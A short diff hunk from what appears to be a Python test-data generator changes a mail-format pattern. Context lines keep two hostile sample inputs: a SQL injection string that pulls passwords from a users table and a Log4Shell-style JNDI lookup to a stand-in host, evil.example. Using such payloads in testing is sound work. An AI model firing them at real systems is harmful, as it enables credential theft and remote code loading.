@@ -57,7 +57,7 @@ _FIELDS = {
         "id=-1%20UNION%20SELECT%201,2,password%20FROM%20users",
         "x=${jndi:ldap://evil.example/a}",
     ),
-    "mail": f.shaped("@@@@@##@example.com"),
+    "mail": f.shaped("&&&&&##@example.com"),
     "excess": f.decimal(0.1, 19.9, 3),
     "pid": f.integer(300, 900),
 }
